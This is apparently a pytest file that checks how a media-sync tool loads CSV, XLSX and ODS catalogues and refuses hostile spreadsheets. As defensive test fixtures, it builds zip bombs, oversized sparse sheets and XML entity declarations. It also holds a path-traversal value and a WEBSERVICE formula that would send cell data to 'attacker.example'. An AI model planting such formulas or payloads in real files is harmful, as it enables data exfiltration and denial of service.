"""Catalogues (CSV, TSV, XLSX, ODS) as manifest sources, offline: every problem located by
file, row and column (or cell), the same checks as YAML entries, curation by videos: entries,
and hostile files refused in one line with bounded memory."""

from __future__ import annotations

import datetime
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ptsync.errors import ManifestError
from ptsync.manifest import load
from tests.manifest.sheetfiles import write_ods

HEAD = "apiVersion: ptsync/v1\nsystem: archive\n"
CATALOGUE = """\
catalogues:
  - file: {file}
    id: identifier
    source: {{url: media_url}}
    columns:
      name: title
      description: abstract
      tags: {{column: keywords, split: ";"}}
      originallyPublishedAt: date
      category: {{value: Education}}
"""
HEADER = "identifier,title,abstract,keywords,date,media_url\n"


def _row(
    ext_id: str, title: str = "A title", keywords: str = "one;two", date: str = "2001-02-03"
) -> str:
    return f"{ext_id},{title},About,{keywords},{date},https://archive.example.org/{ext_id}.mp4\n"


def _write(
    tmp_path: Path,
    rows: str = "",
    extra: str = "",
    file: str = "catalogue.csv",
    body: bytes | None = None,
) -> Path:
    (tmp_path / file).write_bytes(body if body is not None else (HEADER + rows).encode())
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(HEAD + CATALOGUE.format(file=file) + extra)
    return manifest


def _problems(manifest: Path, prefix: Path) -> list[str]:
    with pytest.raises(ManifestError) as caught:
        load([str(manifest)])
    return [str(p).replace(f"{prefix}/", "") for p in caught.value.problems]


def test_rows_become_entries_with_the_declaring_files_defaults(tmp_path):
    manifest = _write(tmp_path, _row("a1") + _row("a2", title="Second film"))
    manifest.write_text(manifest.read_text() + "defaults: {privacy: Public}\n")
    group = load([str(manifest)]).groups[0]
    videos = {v.id: v for v in group.videos}
    assert list(videos) == ["a1", "a2"]
    assert videos["a2"].name == "Second film"
    assert videos["a1"].tags == ["one", "two"]
    assert videos["a1"].category == "Education"
    assert videos["a1"].source is not None and videos["a1"].source.url.endswith("/a1.mp4")
    derived = [m for m in group.members if m.declared_in]
    assert derived[0].path == f"{tmp_path}/catalogue.csv"
    assert derived[0].model.defaults is not None and derived[0].model.defaults.privacy == "Public"


def test_problems_name_file_row_and_column_all_at_once(tmp_path):
    rows = (
        _row("a1")
        + _row("a2", keywords="aa;bb;cc;dd;ee;ff;gg")
        + _row("a3", title="x", date="1999-13-01")
        + "a4,Fine title,About,one,2001-02-03,ftp://nope\n"
    )
    problems = _problems(_write(tmp_path, rows), tmp_path)
    assert "catalogue.csv:3: keywords: at most 5 tags (has 7)" in problems
    assert "catalogue.csv:4: title: name must be 3-120 characters (is 1)" in problems
    assert any(p.startswith("catalogue.csv:4: date: '1999-13-01' is not a date") for p in problems)
    assert "catalogue.csv:5: media_url: 'ftp://nope' is not an http(s) URL" in problems


def test_a_fixed_value_is_placed_on_its_declaration(tmp_path):
    manifest = _write(tmp_path, _row("a1"))
    manifest.write_text(manifest.read_text().replace("{value: Education}", "{value: [1, 2]}"))
    problems = _problems(manifest, tmp_path)
    assert problems == [
        "archive.yaml:12:18: catalogues[0].columns.category.value: expected a label (text) or an id (whole number), got a list"
    ]


def test_missing_or_empty_required_column_is_one_line_naming_the_header(tmp_path):
    body = b"Identifer,title,abstract,keywords,date,media_url\n" + _row("a1").encode()
    assert _problems(_write(tmp_path, body=body), tmp_path) == [
        "catalogue.csv:1: no column 'identifier' (the external id) in the header (did you mean "
        "'Identifer'?); it has 'Identifer', 'title', 'abstract', 'keywords', 'date', 'media_url'"
    ]
    body = (HEADER + "".join(f",Title {i},,,,https://a.example/{i}\n" for i in range(50))).encode()
    assert _problems(_write(tmp_path, body=body), tmp_path) == [
        "catalogue.csv:1: column 'identifier' is empty (it holds the external ids)"
    ]


def test_headers_match_ignoring_case_and_a_title_row_above_them(tmp_path):
    body = (
        b"Archive export 2026\n\nIDENTIFIER, Title ,abstract,keywords,date,MEDIA_URL\n"
        + _row("a1").encode()
    )
    group = load([str(_write(tmp_path, body=body))]).groups[0]
    assert [v.name for v in group.videos] == ["A title"]


def test_ragged_rows_and_broken_quotes_are_one_line_each(tmp_path):
    rows = (
        _row("a1") + "a2,Title,About,one,2001-02-03,https://a.example/a2.mp4,extra\n" + "a3,Short\n"
    )
    problems = _problems(_write(tmp_path, rows), tmp_path)
    assert problems == [
        "catalogue.csv:3: this row has 7 cells, the header 6: a delimiter or a quote out of place? (the row is skipped)",
        "catalogue.csv:4: this row has 2 cells, the header 6: a delimiter or a quote out of place? (the row is skipped)",
    ]
    body = (HEADER + _row("a1") + 'a2,"Unclosed,x,y,2001-02-03,u\n').encode()
    (problem,) = _problems(_write(tmp_path, body=body), tmp_path)
    assert problem.startswith("catalogue.csv:3: not valid CSV on line")


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_any_encoding_announced_by_a_byte_order_mark(tmp_path, encoding):
    text = HEADER + _row("a1", title="Café öffnung")
    body = text.encode(encoding)
    if encoding == "utf-16-be":
        body = b"\xfe\xff" + body
    group = load([str(_write(tmp_path, body=body))]).groups[0]
    assert [v.name for v in group.videos] == ["Café öffnung"]


def test_wrong_encoding_binary_and_huge_files_are_one_line(tmp_path):
    latin1 = (HEADER + _row("a1") + _row("a2", title="Caf\u00e9 film")).encode("latin-1")
    assert _problems(_write(tmp_path, body=latin1), tmp_path) == [
        "catalogue.csv:3: not UTF-8 text (byte 0xe9 on line 3: invalid continuation byte); save it as UTF-8"
    ]
    binary = HEADER.encode() + b"\x00\x01\x02" * 100
    assert _problems(_write(tmp_path, body=binary), tmp_path) == [
        "catalogue.csv:2: a binary file, not CSV text (a NUL character on line 2)"
    ]
    manifest = _write(tmp_path, body=b"")
    with (tmp_path / "catalogue.csv").open("wb") as handle:
        handle.truncate(100 * 2**20)  # 100 MB (sparse): refused from its size, not read
    assert _problems(manifest, tmp_path) == ["catalogue.csv: catalogue file larger than 64 MiB"]
    (tmp_path / "catalogue.csv").write_bytes(b"PK\x03\x04rest")
    assert _problems(manifest, tmp_path) == [
        "catalogue.csv: this is a zip archive (a spreadsheet?), not CSV text: name it .xlsx or .ods"
    ]


def test_a_videos_entry_with_the_same_id_curates_the_row(tmp_path):
    extra = "videos:\n  - id: a2\n    name: Curated name\n    tags: [xx]\n"
    group = load([str(_write(tmp_path, _row("a1") + _row("a2"), extra))]).groups[0]
    videos = {v.id: v for v in group.videos}
    assert len(group.videos) == 2
    assert videos["a2"].name == "Curated name" and videos["a2"].tags == ["xx"]
    assert videos["a2"].description == "About"  # from the row
    problems = _problems(
        _write(
            tmp_path, _row("a1") + _row("a2"), extra.replace("[xx]", "[xx, yy, zz, uu, vv, ww]")
        ),
        tmp_path,
    )
    assert problems == ["archive.yaml:16:5: videos[0].tags: at most 5 tags (has 6)"]


def test_duplicate_ids_name_both_places(tmp_path):
    manifest = _write(tmp_path, _row("a1") + _row("a2") + _row("a1"))
    (tmp_path / "other.csv").write_text(HEADER + _row("a2"))
    manifest.write_text(
        manifest.read_text() + CATALOGUE.format(file="other.csv").replace("catalogues:\n", "")
    )
    (tmp_path / "more.yaml").write_text(
        HEAD + "videos:\n  - id: a1\n    source: {url: https://a.example/x.mp4}\n"
    )
    with pytest.raises(ManifestError) as caught:
        load([str(tmp_path)])
    problems = sorted(str(p).replace(f"{tmp_path}/", "") for p in caught.value.problems)
    assert problems == [
        "catalogue.csv:4: identifier: 'a1' is already used at catalogue.csv:2",
        "more.yaml:4:5: videos[0].id: 'a1' is already used at catalogue.csv:2",
        "other.csv:2: identifier: 'a2' is already used at catalogue.csv:3",
    ]


def test_the_catalogue_must_resolve_into_the_allowed_folders(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "catalogue.csv").write_text(HEADER + _row("a1"))
    inside = tmp_path / "repo"
    inside.mkdir()
    (inside / "catalogue.csv").symlink_to(outside / "catalogue.csv")
    manifest = inside / "archive.yaml"
    manifest.write_text(HEAD + CATALOGUE.format(file="catalogue.csv"))
    (problem,) = _problems(manifest, inside)
    assert problem.startswith("archive.yaml:4:5: catalogues[0].file: 'catalogue.csv' resolves to")
    assert "outside the allowed folders" in problem
    assert load([str(manifest)], media_roots=[outside]).groups[0].videos[0].id == "a1"


def test_file_sources_are_relative_to_the_catalogue_and_contained(tmp_path):
    (tmp_path / "data" / "media").mkdir(parents=True)
    (tmp_path / "data" / "media" / "a1.mp4").write_bytes(b"\x00" * 64)
    (tmp_path / "data" / "catalogue.csv").write_text(
        "identifier,title,path\na1,Film one,media/a1.mp4\na2,Film two,../../etc/passwd.mp4\na3,Film three,media/none.mp4\n"
    )
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(
        HEAD
        + "catalogues:\n  - {file: data/catalogue.csv, id: identifier, source: {file: path}, columns: {name: title}}\n"
    )
    problems = _problems(manifest, tmp_path)
    assert len(problems) == 2
    assert problems[0].startswith("data/catalogue.csv:3: path: '../../etc/passwd.mp4' resolves to")
    assert problems[1] == "data/catalogue.csv:4: path: 'media/none.mp4': no such file"


def _xlsx(path: Path, rows: list[list[object]], sheet: str = "Videos") -> None:
    book = openpyxl.Workbook()
    book.active.title = sheet
    for row in rows:
        book.active.append(row)
    book.save(path)


def test_xlsx_cells_keep_their_types_and_problems_name_the_cell(tmp_path):
    _xlsx(
        tmp_path / "catalogue.xlsx",
        [
            ["Collection export"],
            [],
            ["identifier", "title", "keywords", "date", "media_url", "abstract"],
            [101, "Film one", "aa;bb", datetime.date(2001, 2, 3), "https://a.example/101.mp4"],
            [
                "b2",
                "Film two",
                "aa;bb;cc;dd;ee;ff",
                datetime.date(2001, 2, 3),
                "https://a.example/b2.mp4",
            ],
        ],
    )
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(
        HEAD
        + CATALOGUE.format(file="catalogue.xlsx").replace("    id:", "    sheet: Videos\n    id:")
    )
    assert _problems(manifest, tmp_path) == [
        "catalogue.xlsx:5: Videos!C5 (keywords): at most 5 tags (has 6)"
    ]
    _xlsx(
        tmp_path / "catalogue.xlsx",
        [
            ["identifier", "title", "media_url", "abstract", "keywords", "date"],
            [101, "Film one", "https://a.example/101.mp4"],
        ],
    )
    video = load([str(manifest)]).groups[0].videos[0]
    assert video.id == "101"  # a whole number, not "101.0"
    manifest.write_text(manifest.read_text().replace("sheet: Videos", "sheet: Films"))
    assert _problems(manifest, tmp_path) == ["catalogue.xlsx: no sheet 'Films' (sheets: Videos)"]


def test_formula_cells_are_read_as_saved_values_never_evaluated(tmp_path):
    path = tmp_path / "catalogue.xlsx"
    _xlsx(
        path,
        [["identifier", "title", "media_url"], ["a1", "placeholder", "https://a.example/a1.mp4"]],
    )
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i.filename) for i in source.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    # the cached value as a spreadsheet program saves it, next to a formula that would fetch a URL
    formula = '<c r="B2" t="str"><f>WEBSERVICE("http://attacker.example/?"&amp;A1)</f><v>Saved title</v></c>'
    sheet = sheet.replace(
        sheet[sheet.index('<c r="B2"') : sheet.index("</c>", sheet.index('<c r="B2"')) + 4], formula
    )
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(
        HEAD
        + "catalogues:\n  - {file: catalogue.xlsx, id: identifier, source: {url: media_url}, columns: {name: title}}\n"
    )
    assert load([str(manifest)]).groups[0].videos[0].name == "Saved title"


def _manifest_for(tmp_path: Path, file: str) -> Path:
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(
        HEAD + f"catalogues:\n  - {{file: {file}, id: identifier, source: {{url: media_url}}}}\n"
    )
    return manifest


def test_hostile_spreadsheets_are_refused_in_one_line(tmp_path):
    sparse = tmp_path / "sparse.xlsx"  # 5 KB asking a dense reader for 17 billion cells
    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = "identifier", "x"
    book.save(sparse)
    assert _problems(_manifest_for(tmp_path, "sparse.xlsx"), tmp_path) == [
        "sparse.xlsx: refused: a sheet (xl/worksheets/sheet1.xml) spans 1048576 rows x 16384 columns, more than 5000000 cells"
    ]
    small = tmp_path / "small.xlsx"
    _xlsx(small, [["identifier", "media_url"], ["a1", "https://a.example/a1.mp4"]])
    bomb = tmp_path / "bomb.xlsx"  # 300 MB of XML in a few hundred KB
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/styles.xml":
                data += b" " * (300 * 2**20)
            out.writestr(info.filename, data)
    assert bomb.stat().st_size < 2**20
    (problem,) = _problems(_manifest_for(tmp_path, "bomb.xlsx"), tmp_path)
    assert problem.startswith("bomb.xlsx: refused: xl/styles.xml inflates to")
    ratio = tmp_path / "ratio.xlsx"
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(ratio, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info.filename, source.read(info.filename))
        out.writestr("xl/media/padding.xml", b"\x00" * (50 * 2**20))
    (problem,) = _problems(_manifest_for(tmp_path, "ratio.xlsx"), tmp_path)
    assert "is compressed" in problem and "zip bomb" in problem
    entities = tmp_path / "entities.xlsx"
    with zipfile.ZipFile(entities, "w") as out:
        out.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><workbook>&a;</workbook>',
        )
    assert _problems(_manifest_for(tmp_path, "entities.xlsx"), tmp_path) == [
        "entities.xlsx: refused: xl/workbook.xml declares a document type (XML entities)"
    ]
    (tmp_path / "binary.xlsx").write_bytes(bytes(range(256)) * 10)
    assert _problems(_manifest_for(tmp_path, "binary.xlsx"), tmp_path) == [
        "binary.xlsx: not a .xlsx file (not a zip archive)"
    ]
    (tmp_path / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0" + b"\x00" * 512)
    (problem,) = _problems(_manifest_for(tmp_path, "old.xlsx"), tmp_path)
    assert "an old .xls or a password-protected workbook" in problem


def test_ods_is_read_and_its_repeats_are_bounded(tmp_path):
    write_ods(
        tmp_path / "catalogue.ods",
        "Videos",
        [["identifier", "title", "media_url"], ["a1", "Film one", "https://a.example/a1.mp4"]],
    )
    manifest = _manifest_for(tmp_path, "catalogue.ods")
    manifest.write_text(manifest.read_text().replace("source:", "columns: {name: title}, source:"))
    assert [v.name for v in load([str(manifest)]).groups[0].videos] == ["Film one"]
    write_ods(
        tmp_path / "repeat.ods", "Videos", [["identifier"], ["x"]], repeat_last=(1_000_000, 10_000)
    )
    assert _problems(_manifest_for(tmp_path, "repeat.ods"), tmp_path) == [
        "repeat.ods: refused: a sheet (content.xml) spans 1000001 rows x 10000 columns, more than 5000000 cells"
    ]


def test_without_the_sheets_extra_one_line_names_it(tmp_path, monkeypatch):
    _xlsx(
        tmp_path / "catalogue.xlsx",
        [["identifier", "media_url"], ["a1", "https://a.example/a1.mp4"]],
    )
    monkeypatch.setitem(sys.modules, "python_calamine", None)  # as if not installed
    assert _problems(_manifest_for(tmp_path, "catalogue.xlsx"), tmp_path) == [
        "catalogue.xlsx: reading .xlsx catalogues needs the sheets extra: pip install 'ptsync[sheets]'"
    ]


def test_declaration_problems_are_placed_in_the_manifest(tmp_path):
    (tmp_path / "catalogue.csv").write_text(HEADER + _row("a1"))
    manifest = tmp_path / "archive.yaml"
    manifest.write_text(
        HEAD
        + "catalogues:\n"
        + "  - {file: catalogue.csv, id: identifier, sheet: Videos}\n"
        + "  - {file: catalogue.txt, id: identifier}\n"
        + "  - {file: catalogue.csv, id: identifier, columns: {nmae: title}}\n"
        + "  - {file: catalogue.csv, id: identifier, columns: {tags: {value: [a], column: b}}}\n"
    )
    problems = _problems(manifest, tmp_path)
    assert [p for p in problems if p.startswith("archive.yaml")] == [
        "archive.yaml:4:43: catalogues[0].sheet: sheet applies to .xlsx and .ods, not .csv",
        "archive.yaml:5:6: catalogues[1].file: 'catalogue.txt': unsupported file type (allowed: .csv, .ods, .tsv, .xlsx)",
        "archive.yaml:6:53: catalogues[2].columns.nmae: unknown key 'nmae' (did you mean 'name'?)",
        "archive.yaml:7:53: catalogues[3].columns.tags: give exactly one of column (a header) or value (a fixed value)",
    ]
